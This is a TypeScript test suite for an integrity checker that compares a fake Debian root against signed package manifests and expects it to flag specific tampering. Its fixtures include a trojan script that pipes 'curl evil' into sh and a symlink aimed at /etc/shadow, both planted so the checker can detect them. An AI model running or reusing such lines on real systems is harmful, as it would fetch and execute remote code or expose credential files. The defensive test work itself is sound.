import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { after, before, describe, it } from 'node:test';
import {
  SigningKey,
  TrustedKeyring,
  generateSigningKey,
  manifestFileName,
  reportInconsistency,
  sha256Hex,
  signCatalog,
  signManifest,
  verdictOfReport,
  type Catalog,
  type Manifest,
  type ManifestEntry,
} from '@sysattest/core';
import { listingCatalog, type ListedVersion } from '../testkit/catalogs.js';
import { ManifestCache } from '../cache/manifest-cache.js';
import type { Finding } from './compare.js';
import { exitCodeOf, renderJson, renderText, verifyReportSchema, type VerifyReport } from './report.js';
import { DirectoryManifestSource, type ManifestStatus, type OfferedCatalog } from './source.js';
import { verifyMachine } from './verify-machine.js';

/**
 * End to end on a small fake root: a dpkg database, real files, manifests made from those files
 * and signed, laid out as the generator writes them; then a clean run, then tampering.
 */

interface FakePackage {
  name: string;
  version: string;
  arch: string;
  /** Paths the package owns, as dpkg lists them. */
  paths: string[];
  conffiles?: string[];
  multiArchSame?: boolean;
}

const PACKAGES: FakePackage[] = [
  { name: 'dpkg', version: '1.21.22', arch: 'amd64', paths: ['/usr', '/usr/bin', '/usr/bin/dpkg'] },
  {
    name: 'tool',
    version: '1:2.0-1',
    arch: 'amd64',
    paths: [
      '/etc',
      '/etc/tool.conf',
      '/usr',
      '/usr/bin',
      '/usr/bin/tool',
      '/usr/bin/tool-helper',
      '/usr/bin/tool-link',
      '/usr/bin/div',
      '/usr/share',
      '/usr/share/tool',
      '/usr/share/tool/readme',
    ],
    conffiles: ['/etc/tool.conf'],
  },
  {
    name: 'libdata',
    version: '3.1',
    arch: 'all',
    paths: [
      '/usr',
      '/usr/share',
      '/usr/share/libdata',
      '/usr/share/libdata/a.txt',
      '/usr/share/libdata/b.txt',
    ],
  },
  { name: 'extra', version: '0.9', arch: 'amd64', paths: ['/usr', '/usr/bin', '/usr/bin/extra'] },
];

const FILES: Record<string, [string, number]> = {
  'usr/bin/dpkg': ['dpkg binary\n', 0o755],
  'etc/tool.conf': ['setting = 1\n', 0o644],
  'usr/bin/tool': ['tool binary\n', 0o755],
  'usr/bin/tool-helper': ['tool helper\n', 0o755],
  // /usr/bin/div is diverted by the package `extra` (its signed manifest declares it): tool's
  // file lives at div.real, and extra's wrapper at /usr/bin/div is none of tool's business.
  'usr/bin/div.real': ['the real div\n', 0o755],
  'usr/bin/div': ['#!/bin/sh\nexec div.real "$@"\n', 0o755],
  'usr/share/tool/readme': ['read me\n', 0o644],
  'usr/share/libdata/a.txt': ['data a\n', 0o644],
  'usr/share/libdata/b.txt': ['data b\n', 0o644],
  'usr/bin/extra': ['extra binary\n', 0o755],
};

/** The fake root's diversions file: extra diverts tool's /usr/bin/div. */
const DIVERSIONS = '/usr/bin/div\n/usr/bin/div.real\nextra\n';

const para = (...lines: string[]): string => lines.join('\n') + '\n\n';
const md5 = (s: string | Buffer): string => createHash('md5').update(s).digest('hex');

function statusParagraph(p: FakePackage): string {
  const lines = [
    `Package: ${p.name}`,
    'Status: install ok installed',
    `Architecture: ${p.arch}`,
    `Version: ${p.version}`,
  ];
  if (p.multiArchSame) lines.push('Multi-Arch: same');
  if (p.conffiles !== undefined) {
    lines.push('Conffiles:');
    for (const c of p.conffiles) lines.push(` ${c} ${md5(FILES[c.slice(1)]?.[0] ?? '')}`);
  }
  return para(...lines);
}

function writeDpkgDatabase(root: string, packages: FakePackage[]): void {
  const admin = path.join(root, 'var/lib/dpkg');
  fs.mkdirSync(path.join(admin, 'info'), { recursive: true });
  fs.writeFileSync(path.join(admin, 'status'), packages.map(statusParagraph).join(''));
  fs.writeFileSync(path.join(admin, 'info/format'), '1\n');
  fs.writeFileSync(path.join(admin, 'diversions'), DIVERSIONS);
  for (const p of packages) {
    fs.writeFileSync(path.join(admin, 'info', `${p.name}.list`), ['/.', ...p.paths].join('\n') + '\n');
    const sums = p.paths
      .filter((x) => FILES[x.slice(1)] !== undefined)
      .map((x) => `${md5(FILES[x.slice(1)]?.[0] ?? '')}  ${x.slice(1)}\n`);
    fs.writeFileSync(path.join(admin, 'info', `${p.name}.md5sums`), sums.join(''));
  }
}

function makeRoot(): string {
  const root = fs.mkdtempSync(path.join(os.tmpdir(), 'sysattest-root-'));
  fs.mkdirSync(path.join(root, 'etc'), { recursive: true });
  fs.writeFileSync(
    path.join(root, 'etc/os-release'),
    'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nID=debian\nVERSION_ID="12"\nVERSION_CODENAME=bookworm\n',
  );
  for (const [p, [content, mode]] of Object.entries(FILES)) {
    const host = path.join(root, p);
    fs.mkdirSync(path.dirname(host), { recursive: true });
    fs.writeFileSync(host, content);
    fs.chmodSync(host, mode);
  }
  fs.symlinkSync('tool', path.join(root, 'usr/bin/tool-link'));
  for (const d of ['etc', 'usr', 'usr/bin', 'usr/share', 'usr/share/tool', 'usr/share/libdata']) {
    fs.chmodSync(path.join(root, d), 0o755);
  }
  writeDpkgDatabase(root, PACKAGES);
  return root;
}

/**
 * What a generator would record for a package: the entries as they are on disk now, and for
 * `extra` its diversion of /usr/bin/div (unless `declareDiversions` is false).
 */
function manifestFor(root: string, p: FakePackage, fingerprint: string, declareDiversions = true): Manifest {
  const entries: ManifestEntry[] = [];
  for (const pkgPath of [...p.paths].sort()) {
    // The generator's image has no local diversion: the content is the diverted file's.
    const host = path.join(root, pkgPath === '/usr/bin/div' ? '/usr/bin/div.real' : pkgPath);
    const st = fs.lstatSync(host);
    const common = {
      path: pkgPath,
      mode: (st.mode & 0o7777).toString(8).padStart(4, '0'),
      uid: st.uid,
      gid: st.gid,
      ...(p.conffiles?.includes(pkgPath) ? { conffile: true as const } : {}),
    };
    if (st.isDirectory()) entries.push({ type: 'dir', ...common });
    else if (st.isSymbolicLink()) entries.push({ type: 'symlink', ...common, target: fs.readlinkSync(host) });
    else {
      const bytes = fs.readFileSync(host);
      entries.push({ type: 'file', ...common, size: bytes.length, sha256: sha256Hex(bytes) });
    }
  }
  return {
    schema: 'sysattest.manifest',
    schemaVersion: 1,
    platform: `debian/bookworm/${p.arch}`,
    package: {
      name: p.name,
      version: p.version,
      architecture: p.arch,
      source: { name: p.name, version: p.version },
    },
    provenance: {
      generatedAt: '2026-11-01T00:00:00Z',
      generator: { name: 'test', version: '0' },
      keyFingerprint: fingerprint,
      image: { id: 'test-image' },
      installer: 'apt 2.6.1',
    },
    entries,
    ...(p.name === 'extra' && declareDiversions
      ? { diversions: [{ from: '/usr/bin/div', to: '/usr/bin/div.real' }] }
      : {}),
  };
}

function manifestPath(dir: string, p: FakePackage): string {
  return path.join(
    dir,
    'debian',
    'bookworm',
    p.arch,
    manifestFileName({ name: p.name, version: p.version, architecture: p.arch }),
  );
}

async function publish(
  dir: string,
  root: string,
  p: FakePackage,
  key: SigningKey,
  declareDiversions = true,
): Promise<void> {
  const signed = await signManifest(manifestFor(root, p, key.fingerprint, declareDiversions), key);
  const file = manifestPath(dir, p);
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, signed.bytes);
  fs.writeFileSync(`${file}.asc`, signed.signature);
}

const summarise = (findings: Finding[]): string[] =>
  findings.map(
    (f) => `${f.class} ${f.package}${f.path ? ` ${f.path}` : ''}${f.attribute ? ` ${f.attribute}` : ''}`,
  );

/** A fake root with every PACKAGES manifest published (signed by `key`), and an empty cache dir. */
async function fakeWorld(): Promise<{
  root: string;
  manifests: string;
  cacheDir: string;
  key: SigningKey;
  keyring: TrustedKeyring;
}> {
  const root = makeRoot();
  const manifests = fs.mkdtempSync(path.join(os.tmpdir(), 'sysattest-manifests-'));
  const cacheDir = fs.mkdtempSync(path.join(os.tmpdir(), 'sysattest-cache-'));
  const k = await generateSigningKey({ name: 'generator' });
  const key = await SigningKey.fromArmored(k.armoredSecretKey);
  const keyring = await TrustedKeyring.fromArmored(k.armoredPublicKey);
  for (const p of PACKAGES) await publish(manifests, root, p, key);
  return { root, manifests, cacheDir, key, keyring };
}

describe('verifyMachine on a fake root', () => {
  let root: string;
  let manifests: string;
  let cacheDir: string;
  let key: SigningKey;
  let rogue: SigningKey;
  let keyring: TrustedKeyring;

  before(async () => {
    ({ root, manifests, cacheDir, key, keyring } = await fakeWorld());
    rogue = await SigningKey.fromArmored((await generateSigningKey({ name: 'rogue' })).armoredSecretKey);
  });
  after(() => {
    for (const d of [root, manifests, cacheDir]) fs.rmSync(d, { recursive: true, force: true });
  });

  it('an untouched root: every package verified, zero findings, exit 0', async () => {
    const report = await verifyMachine({
      root,
      keyring,
      source: new DirectoryManifestSource(manifests),
      cache: new ManifestCache(cacheDir),
      jobs: 2,
    });
    assert.deepEqual(summarise(report.findings), []);
    assert.equal(report.platform, 'debian/bookworm/amd64');
    assert.equal(report.summary.packages, 4);
    assert.equal(report.summary.verified, 4);
    assert.equal(
      report.summary.filesChecked,
      PACKAGES.reduce((n, p) => n + p.paths.length, 0),
    );
    assert.deepEqual(
      report.packages.map((p) => [p.name, p.status]),
      PACKAGES.map((p) => [p.name, 'verified']),
    );
    assert.equal(exitCodeOf(report), 0);
    assert.match(renderText(report), /no findings/);
    assert.equal((JSON.parse(renderJson(report)) as VerifyReport).summary.verified, 4);
  });

  it('offline, from the cache alone, gives the same answer', async () => {
    const report = await verifyMachine({ root, keyring, cache: new ManifestCache(cacheDir), jobs: 2 });
    assert.equal(report.summary.verified, 4);
    assert.deepEqual(report.findings, []);
  });

  it('offline without a cache: every package unverified (not-cached), exit 2', async () => {
    const report = await verifyMachine({ root, keyring, jobs: 1 });
    assert.equal(report.summary.unverified, 4);
    assert.ok(report.packages.every((p) => p.reason === 'not-cached'));
    assert.equal(exitCodeOf(report), 2);
  });

  it('finds each tampering with the right class, exactly where it is', async () => {
    const at = (p: string): string => path.join(root, p);
    // content changed (one byte)
    fs.writeFileSync(at('usr/bin/tool'), 'tool binarY\n');
    // setuid added
    fs.chmodSync(at('usr/bin/tool-helper'), 0o4755);
    // deleted
    fs.rmSync(at('usr/share/tool/readme'));
    // a file replaced by a symlink
    fs.rmSync(at('usr/share/libdata/a.txt'));
    fs.symlinkSync('/etc/shadow', at('usr/share/libdata/a.txt'));
    // a symlink retargeted
    fs.rmSync(at('usr/bin/tool-link'));
    fs.symlinkSync('/tmp/evil', at('usr/bin/tool-link'));
    // a conffile edited
    fs.writeFileSync(at('etc/tool.conf'), 'setting = 2\n');
    // extra's wrapper at the path extra diverts changes (tool's business only if the diversion
    // is not backed by extra's verified manifest)
    fs.writeFileSync(at('usr/bin/div'), '#!/bin/sh\necho changed\n');
    // extra: modified on disk, and its manifest re-signed by a key that is not pinned
    fs.writeFileSync(at('usr/bin/extra'), 'evil extra\n');
    await publish(manifests, root, PACKAGES[3] as FakePackage, rogue);
    // dpkg: its manifest tampered with after signing (one byte)
    const dpkgFile = manifestPath(manifests, PACKAGES[0] as FakePackage);
    fs.writeFileSync(dpkgFile, fs.readFileSync(dpkgFile, 'utf8').replace('1.21.22', '1.21.23'));
    // a package the catalog does not know
    const orphan: FakePackage = { name: 'orphan', version: '1', arch: 'amd64', paths: ['/usr', '/usr/bin'] };
    writeDpkgDatabase(root, [...PACKAGES, orphan]);

    // A fresh cache: the cached good manifests of dpkg and extra would (rightly) still verify.
    const report = await verifyMachine({
      root,
      keyring,
      source: new DirectoryManifestSource(manifests),
      cache: new ManifestCache(fs.mkdtempSync(path.join(cacheDir, 'fresh-'))),
      jobs: 2,
    });
    assert.deepEqual(summarise(report.findings), [
      'bad-signature dpkg',
      'bad-signature extra',
      // extra's manifest is refused, so nothing signed declares its diversion: tool's file is
      // checked at /usr/bin/div, where extra's changed wrapper is.
      'modified tool /usr/bin/div',
      'modified tool /usr/bin/tool',
      'replaced libdata /usr/share/libdata/a.txt',
      'missing tool /usr/share/tool/readme',
      'metadata tool /usr/bin/tool-helper mode',
      'metadata tool /usr/bin/tool-link target',
      'config-modified tool /etc/tool.conf',
      'diversion extra /usr/bin/div',
      'unverified orphan',
    ]);
    const byClass = (c: string): Finding[] => report.findings.filter((f) => f.class === c);
    assert.equal(byClass('config-modified')[0]?.failure, false);
    assert.equal(byClass('metadata')[0]?.actual, '4755');
    assert.match(byClass('bad-signature')[0]?.detail ?? '', /BAD_SIGNATURE/);
    assert.match(byClass('bad-signature')[1]?.detail ?? '', /UNKNOWN_SIGNER/);
    assert.deepEqual(
      report.packages.map((p) => [p.name, p.status, p.reason?.split(':')[0]]),
      [
        ['dpkg', 'bad-signature', 'BAD_SIGNATURE'],
        ['tool', 'verified', undefined],
        ['libdata', 'verified', undefined],
        ['extra', 'bad-signature', 'UNKNOWN_SIGNER'],
        ['orphan', 'unverified', 'not-in-catalog'],
      ],
    );
    assert.equal(report.summary.findingsByClass.modified, 2);
    assert.equal(report.summary.badSignature, 2);
    assert.equal(report.summary.unverified, 1);
    assert.equal(exitCodeOf(report), 1 | 2 | 4);
    // What a host would send the server: its JSON parses with the wire schema, unchanged, and its
    // summary agrees with its lists.
    const sent = verifyReportSchema.parse(JSON.parse(renderJson(report)));
    assert.deepEqual(sent, JSON.parse(renderJson(report)));
    assert.equal(reportInconsistency(sent), undefined);
    assert.equal(verdictOfReport(sent), 'trust-failure');

    const text = renderText(report);
    assert.ok(text.indexOf('packages: 5') < text.indexOf('Modified content'));
    assert.ok(!text.includes('\u001b['));
    assert.ok(renderText(report, { colour: true }).includes('\u001b[31m'));

    // with --include-config the conffile counts as a failure
    const strict = await verifyMachine({
      root,
      keyring,
      source: new DirectoryManifestSource(manifests),
      includeConfig: true,
      packages: ['tool'],
      jobs: 1,
    });
    // tool, and extra, whose diversion claims a path of tool's (its manifest decides whether it holds)
    assert.equal(strict.summary.packages, 2);
    assert.equal(strict.findings.find((f) => f.class === 'config-modified')?.failure, true);
  });

  it('refuses a validly signed manifest for another package version', async () => {
    const libdata = PACKAGES[2] as FakePackage;
    const other = { ...libdata, version: '3.0' };
    const signed = await signManifest(manifestFor(root, other, key.fingerprint), key);
    fs.writeFileSync(manifestPath(manifests, libdata), signed.bytes);
    fs.writeFileSync(`${manifestPath(manifests, libdata)}.asc`, signed.signature);
    const report = await verifyMachine({
      root,
      keyring,
      source: new DirectoryManifestSource(manifests),
      packages: ['libdata'],
      jobs: 1,
    });
    assert.deepEqual(summarise(report.findings), ['bad-signature libdata']);
    assert.match(report.packages[0]?.reason ?? '', /^MANIFEST_MISMATCH: asked for libdata 3.1/);
  });
});

describe('verifyMachine: diversions and stat overrides are claims of the machine, judged against signed manifests', () => {
  let world: Awaited<ReturnType<typeof fakeWorld>>;
  const at = (p: string): string => path.join(world.root, p);
  const admin = (f: string): string => at(`var/lib/dpkg/${f}`);
  const run = (extra: Partial<Parameters<typeof verifyMachine>[0]> = {}): Promise<VerifyReport> =>
    verifyMachine({
      root: world.root,
      keyring: world.keyring,
      source: new DirectoryManifestSource(world.manifests),
      jobs: 2,
      ...extra,
    });
  /** Runs `change`, then `check`, then restores the files `change` may touch. */
  const tampered = async (change: () => void, check: () => Promise<void>): Promise<void> => {
    const saved = ['usr/bin/div', 'usr/bin/div.real', 'usr/bin/tool', 'var/lib/dpkg/diversions'].map((p) => ({
      p,
      bytes: fs.readFileSync(at(p)),
      mode: fs.statSync(at(p)).mode & 0o7777,
    }));
    change();
    try {
      await check();
    } finally {
      for (const { p, bytes, mode } of saved) {
        fs.writeFileSync(at(p), bytes);
        fs.chmodSync(at(p), mode);
      }
      fs.rmSync(admin('statoverride'), { force: true });
      await publish(world.manifests, world.root, PACKAGES[3] as FakePackage, world.key);
    }
  };
  const trojan = '#!/bin/sh\ncurl evil | sh\n';

  before(async () => {
    world = await fakeWorld();
  });
  after(() => {
    for (const d of [world.root, world.manifests, world.cacheDir])
      fs.rmSync(d, { recursive: true, force: true });
  });

  it('a diversion the diverting package declares in its signed manifest is honoured: no finding', async () => {
    const report = await run();
    assert.deepEqual(summarise(report.findings), []);
    assert.equal(exitCodeOf(report), 0);
  });

  it('--packages: the diverting package is resolved with the selection, so its declared diversion holds', async () => {
    const report = await run({ packages: ['tool'] });
    assert.deepEqual(summarise(report.findings), []);
    assert.deepEqual(report.packages.map((p) => p.name).sort(), ['extra', 'tool']);
    const libdata = await run({ packages: ['libdata'] });
    assert.deepEqual(
      libdata.packages.map((p) => p.name),
      ['libdata'],
    );
  });

  it('a directory several packages list: its metadata is fine when one verified manifest lists it as it is', async () => {
    fs.chmodSync(at('usr/bin'), 0o750);
    try {
      // No manifest says 0750: each package listing /usr/bin reports it.
      assert.deepEqual(summarise((await run()).findings), [
        'metadata dpkg /usr/bin mode',
        'metadata extra /usr/bin mode',
        'metadata tool /usr/bin mode',
      ]);
      // extra's manifest (as its maintainer scripts would leave it) says 0750: it vouches for it.
      await publish(world.manifests, world.root, PACKAGES[3] as FakePackage, world.key);
      assert.deepEqual(summarise((await run()).findings), []);
    } finally {
      fs.chmodSync(at('usr/bin'), 0o755);
      await publish(world.manifests, world.root, PACKAGES[3] as FakePackage, world.key);
    }
  });

  it('a local diversion hiding a trojan: a diversion failure, and the trojan at the original path is modified', async () => {
    await tampered(
      () => {
        fs.writeFileSync(admin('diversions'), '/usr/bin/div\n/usr/bin/div.real\n:\n');
        fs.writeFileSync(at('usr/bin/div'), trojan);
      },
      async () => {
        const report = await run();
        assert.deepEqual(summarise(report.findings), [
          'modified tool /usr/bin/div',
          'diversion  /usr/bin/div',
        ]);
        const d = report.findings.find((f) => f.class === 'diversion');
        assert.equal(d?.failure, true);
        assert.match(d?.detail ?? '', /made locally.*not honoured/);
        assert.equal(exitCodeOf(report) & 1, 1);
        // The operator's explicit choice: honoured, listed as accepted, not a failure.
        const accepted = await run({ acceptLocalDiversions: true });
        assert.deepEqual(summarise(accepted.findings), ['diversion  /usr/bin/div']);
        assert.equal(accepted.findings[0]?.accepted, true);
        assert.equal(accepted.findings[0]?.failure, false);
        assert.equal(exitCodeOf(accepted), 0);
        assert.match(renderText(accepted), /\(accepted\) diversion of \/usr\/bin\/div/);
        // Accepting a path works for it alone.
        const byPath = await run({ acceptDiversions: ['/usr/bin/other'] });
        assert.equal(exitCodeOf(byPath) & 1, 1);
      },
    );
  });

  it('a diversion by a package whose signed manifest does not declare it is not honoured', async () => {
    await tampered(
      () => void 0,
      async () => {
        await publish(world.manifests, world.root, PACKAGES[3] as FakePackage, world.key, false);
        const report = await run();
        // tool's file is looked at /usr/bin/div, where extra's wrapper is.
        assert.deepEqual(summarise(report.findings), [
          'modified tool /usr/bin/div',
          'diversion extra /usr/bin/div',
        ]);
        assert.match(report.findings[1]?.detail ?? '', /whose signed manifest does not declare it/);
        assert.equal(exitCodeOf(report), 1);
      },
    );
  });

  it('a stat override that adds setuid is a failure, the manifest mode is expected; an allowed path is listed as accepted', async () => {
    await tampered(
      () => {
        fs.writeFileSync(admin('statoverride'), 'root root 4755 /usr/bin/tool\n');
        fs.chmodSync(at('usr/bin/tool'), 0o4755);
      },
      async () => {
        const report = await run();
        assert.deepEqual(summarise(report.findings), [
          'metadata tool /usr/bin/tool mode',
          'statoverride tool /usr/bin/tool',
        ]);
        const o = report.findings.find((f) => f.class === 'statoverride');
        assert.equal(o?.failure, true);
        assert.match(o?.detail ?? '', /mode 0755 → 4755.*adds setuid.*not honoured/);
        assert.equal(exitCodeOf(report), 1);
        const allowed = await run({ allowStatOverrides: ['/usr/bin/tool'] });
        assert.deepEqual(summarise(allowed.findings), ['statoverride tool /usr/bin/tool']);
        assert.equal(allowed.findings[0]?.accepted, true);
        assert.equal(exitCodeOf(allowed), 0);
      },
    );
  });

  it('a stat override that lowers privilege is expected and listed; one equal to the manifest raises nothing', async () => {
    await tampered(
      () => {
        fs.writeFileSync(admin('statoverride'), 'root root 0750 /usr/bin/tool\n');
        fs.chmodSync(at('usr/bin/tool'), 0o750);
      },
      async () => {
        const report = await run();
        assert.deepEqual(summarise(report.findings), ['statoverride tool /usr/bin/tool']);
        assert.equal(report.findings[0]?.failure, false);
        assert.equal(exitCodeOf(report), 0);
        const owner = `#${fs.statSync(at('usr/bin/tool')).uid}`;
        fs.writeFileSync(
          admin('statoverride'),
          `${owner} #${fs.statSync(at('usr/bin/tool')).gid} 0755 /usr/bin/tool\n`,
        );
        fs.chmodSync(at('usr/bin/tool'), 0o755);
        const r2 = await run();
        assert.deepEqual(summarise(r2.findings), [], JSON.stringify(r2.findings));
      },
    );
  });
});

describe('verifyMachine with a warm cache: the local file lists only choose what is hashed early', () => {
  let world: Awaited<ReturnType<typeof fakeWorld>>;
  before(async () => {
    world = await fakeWorld();
    // A first run fills the cache; the runs below hash each package's listed paths ahead.
    const first = await verifyMachine({
      root: world.root,
      keyring: world.keyring,
      source: new DirectoryManifestSource(world.manifests),
      cache: new ManifestCache(world.cacheDir),
      jobs: 2,
    });
    assert.equal(first.summary.verified, PACKAGES.length);
  });
  after(() => {
    for (const d of [world.root, world.manifests, world.cacheDir])
      fs.rmSync(d, { recursive: true, force: true });
  });

  it('a path dropped from the local list is still checked; a path added to it is not believed', async () => {
    const { root, keyring, cacheDir } = world;
    const at = (p: string): string => path.join(root, p);
    // The attacker edits a file and removes it from tool's list (so a list-driven tool skips it),
    // and lists a planted binary as tool's own.
    fs.writeFileSync(at('usr/share/tool/readme'), 'read me, changed\n');
    fs.writeFileSync(at('usr/bin/planted'), 'planted\n');
    const tool = PACKAGES[1] as FakePackage;
    const edited: FakePackage = {
      ...tool,
      paths: [...tool.paths.filter((p) => p !== '/usr/share/tool/readme'), '/usr/bin/planted'],
    };
    writeDpkgDatabase(
      root,
      PACKAGES.map((p) => (p === tool ? edited : p)),
    );
    const run = (): Promise<VerifyReport> =>
      verifyMachine({ root, keyring, cache: new ManifestCache(cacheDir), jobs: 2, scanUnowned: true });
    const report = await run();
    assert.deepEqual(summarise(report.findings), [
      'modified tool /usr/share/tool/readme',
      'unowned  /usr/bin/planted',
    ]);
    assert.equal(
      report.summary.filesChecked,
      PACKAGES.reduce((n, p) => n + p.paths.length, 0),
    );

    // The same database, files as shipped again: nothing but the planted file.
    fs.writeFileSync(at('usr/share/tool/readme'), FILES['usr/share/tool/readme']?.[0] ?? '');
    assert.deepEqual(summarise((await run()).findings), ['unowned  /usr/bin/planted']);
  });
});

/** A directory source that also offers one signed catalog snapshot, as the server's lookups do. */
class SourceWithCatalog extends DirectoryManifestSource {
  constructor(
    dir: string,
    private readonly offered: Map<string, OfferedCatalog>,
  ) {
    super(dir);
  }
  snapshotDigests(): Map<string, string> {
    return new Map([...this.offered].map(([platform, doc]) => [platform, doc.digest]));
  }
  catalog(digest: string): Promise<OfferedCatalog | undefined> {
    return Promise.resolve([...this.offered.values()].find((doc) => doc.digest === digest));
  }
}

function catalogOf(fingerprint: string, versions: ListedVersion[]): Catalog {
  return listingCatalog({
    platform: 'debian/bookworm/amd64',
    // Fresh: a snapshot older than the maximum age (7 days) would be a stale-catalog finding.
    generatedAt: new Date(Date.now() - 3600_000).toISOString().replace(/\.\d+Z$/, 'Z'),
    keyFingerprint: fingerprint,
    versions,
  });
}

describe('verifyMachine: outdated, from signed catalog snapshots only', () => {
  let root: string;
  let manifests: string;
  let key: SigningKey;
  let rogue: SigningKey;
  let keyring: TrustedKeyring;

  before(async () => {
    root = makeRoot();
    manifests = fs.mkdtempSync(path.join(os.tmpdir(), 'sysattest-manifests-'));
    const k = await generateSigningKey({ name: 'generator' });
    key = await SigningKey.fromArmored(k.armoredSecretKey);
    keyring = await TrustedKeyring.fromArmored(k.armoredPublicKey);
    rogue = await SigningKey.fromArmored((await generateSigningKey({ name: 'rogue' })).armoredSecretKey);
    for (const p of PACKAGES) await publish(manifests, root, p, key);
  });
  after(() => {
    for (const d of [root, manifests]) fs.rmSync(d, { recursive: true, force: true });
  });

  const versions: [string, string, string][] = [
    ['dpkg', '1.21.22', 'amd64'],
    ['extra', '0.9', 'amd64'],
    ['libdata', '3.1', 'all'],
    ['libdata', '3.10', 'all'],
    ['tool', '1:2.0-1', 'amd64'],
    ['tool', '1:2.0-1+deb12u1', 'amd64'],
  ];

  it('a newer version in a catalog that verified: outdated naming both versions, not a failure', async () => {
    const signed = await signCatalog(catalogOf(key.fingerprint, versions), key);
    const source = new SourceWithCatalog(
      manifests,
      new Map([
        [
          'debian/bookworm/amd64',
          { digest: signed.digest, bytes: signed.bytes, signature: signed.signature },
        ],
      ]),
    );
    const report = await verifyMachine({ root, keyring, source, jobs: 2 });
    assert.deepEqual(summarise(report.findings), ['outdated libdata', 'outdated tool']);
    const tool = report.findings.find((f) => f.package === 'tool');
    assert.deepEqual([tool?.actual, tool?.expected], ['1:2.0-1', '1:2.0-1+deb12u1']);
    assert.deepEqual(
      report.catalogs.map((c) => c.status),
      ['verified'],
    );
    assert.equal(report.packages.find((p) => p.name === 'dpkg')?.newestVersion, '1.21.22');
    assert.equal(exitCodeOf(report), 0);
  });

  it('a catalog signed by a key that is not pinned: refused, no outdated claim, trust bit set', async () => {
    const signed = await signCatalog(catalogOf(rogue.fingerprint, versions), rogue);
    const source = new SourceWithCatalog(
      manifests,
      new Map([
        [
          'debian/bookworm/amd64',
          { digest: signed.digest, bytes: signed.bytes, signature: signed.signature },
        ],
      ]),
    );
    const report = await verifyMachine({ root, keyring, source, jobs: 2 });
    assert.deepEqual(summarise(report.findings), []);
    assert.equal(report.catalogs[0]?.status, 'refused');
    assert.match(report.catalogs[0]?.reason ?? '', /UNKNOWN_SIGNER/);
    assert.equal(exitCodeOf(report), 4);
  });
});

/**
 * A source like the server: digests first (statuses), bodies only when asked (fetch), snapshots
 * by digest. It counts what a client asks for, to check a client with a warm cache asks for
 * states only.
 */
class CountingSource extends DirectoryManifestSource {
  fetched: string[] = [];
  statusCalls = 0;
  catalogFetches = 0;
  constructor(
    dir: string,
    private readonly snapshot: OfferedCatalog & { platform: string },
  ) {
    super(dir);
  }
  override async fetch(
    ...args: Parameters<DirectoryManifestSource['fetch']>
  ): ReturnType<DirectoryManifestSource['fetch']> {
    this.fetched.push(...args[1].map((i) => i.name));
    return super.fetch(...args);
  }
  async statuses(...args: Parameters<DirectoryManifestSource['fetch']>): Promise<ManifestStatus[]> {
    this.statusCalls++;
    const full = await super.fetch(...args);
    return full.map((r) => (r.status === 'ok' ? { status: 'ok', digest: sha256Hex(r.bytes) } : r));
  }
  snapshotDigests(): Map<string, string> {
    return this.statusCalls > 0 ? new Map([[this.snapshot.platform, this.snapshot.digest]]) : new Map();
  }
  catalog(digest: string): Promise<OfferedCatalog | undefined> {
    this.catalogFetches++;
    return Promise.resolve(digest === this.snapshot.digest ? this.snapshot : undefined);
  }
}

describe('verifyMachine with a cache and a source that answers digests first', () => {
  let root: string;
  let manifests: string;
  let cacheDir: string;
  let key: SigningKey;
  let keyring: TrustedKeyring;

  before(async () => {
    ({ root, manifests, cacheDir, key, keyring } = await fakeWorld());
  });
  after(() => {
    for (const d of [root, manifests, cacheDir]) fs.rmSync(d, { recursive: true, force: true });
  });

  it('a warm cache: states only, no manifest or snapshot fetched, same findings (outdated included)', async () => {
    const signed = await signCatalog(
      catalogOf(key.fingerprint, [
        ['tool', '1:2.0-1', 'amd64'],
        ['tool', '1:2.0-1+deb12u1', 'amd64'],
      ]),
      key,
    );
    const snapshot = {
      platform: 'debian/bookworm/amd64',
      digest: signed.digest,
      bytes: signed.bytes,
      signature: signed.signature,
    };
    const cache = new ManifestCache(cacheDir, { sealSecret: new Uint8Array(32).fill(7) });
    const first = new CountingSource(manifests, snapshot);
    const cold = await verifyMachine({ root, keyring, source: first, cache, jobs: 2 });
    assert.deepEqual(summarise(cold.findings), ['outdated tool']);
    assert.equal(first.fetched.length, PACKAGES.length, 'a cold cache fetches every manifest');
    assert.equal(first.catalogFetches, 1);

    const second = new CountingSource(manifests, snapshot);
    const warm = await verifyMachine({ root, keyring, source: second, cache, jobs: 2 });
    assert.deepEqual(second.fetched, [], 'nothing fetched: the cache holds every manifest');
    assert.equal(second.catalogFetches, 0, 'the snapshot verified last run comes from the cache');
    assert.ok(second.statusCalls > 0);
    assert.deepEqual(summarise(warm.findings), ['outdated tool'], 'outdated on a fully cached run too');
    assert.equal(warm.summary.verified, PACKAGES.length);
    assert.equal(exitCodeOf(warm), 0);

    // The source now holds other (validly signed) bytes for one version: that one is fetched.
    const tool = PACKAGES.find((p) => p.name === 'tool') as FakePackage;
    const file = manifestPath(manifests, tool);
    const m = JSON.parse(fs.readFileSync(file, 'utf8')) as Manifest;
    m.provenance.generatedAt = '2026-11-24T00:00:00Z';
    const again = await signManifest(m, key);
    fs.writeFileSync(file, again.bytes);
    fs.writeFileSync(`${file}.asc`, again.signature);
    const third = new CountingSource(manifests, snapshot);
    const resigned = await verifyMachine({ root, keyring, source: third, cache, jobs: 2 });
    assert.deepEqual(third.fetched, ['tool']);
    assert.ok(
      resigned.notes.some((n) => /another signed manifest .* both verified, the new one is used/.test(n)),
    );

    // Offline: the remembered snapshot still gives `outdated`, and a note says how old it is.
    const offline = await verifyMachine({ root, keyring, cache, jobs: 2 });
    assert.deepEqual(summarise(offline.findings), ['outdated tool']);
    assert.ok(
      offline.notes.some((n) =>
        /^offline: the catalog snapshot of debian\/bookworm\/amd64 is from .* days old\)$/.test(n),
      ),
      offline.notes.join('\n'),
    );
    // Old enough data offline is a stale-catalog finding (coverage).
    const later = new Date(Date.now() + 10 * 24 * 3600_000);
    const stale = await verifyMachine({ root, keyring, cache, jobs: 2, now: later });
    assert.deepEqual(summarise(stale.findings), ['stale-catalog ', 'outdated tool']);
    assert.equal(exitCodeOf(stale), 2);
  });
});
